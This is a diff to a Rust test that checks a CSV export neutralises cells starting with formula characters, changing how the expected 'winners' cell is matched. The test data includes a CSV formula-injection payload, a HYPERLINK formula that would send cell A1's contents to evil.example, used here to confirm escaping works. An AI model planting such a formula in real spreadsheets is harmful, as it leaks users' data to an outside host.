@@ -68,8 +68,8 @@ async fn a_csv_export_never_starts_a_typed_cell_with_a_formula_character() {
         "the players cell starts with the neutralised name: {row}"
     );
     assert!(
-        row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r")
-            || row.ends_with(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
+        // The winners cell, then the (empty) cells of an abandon's trace.
+        row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",,,,"),
         "so is the winners cell: {row}"
     );
     // Our own numbers stay numbers: Ben's score, rank and result are bare.
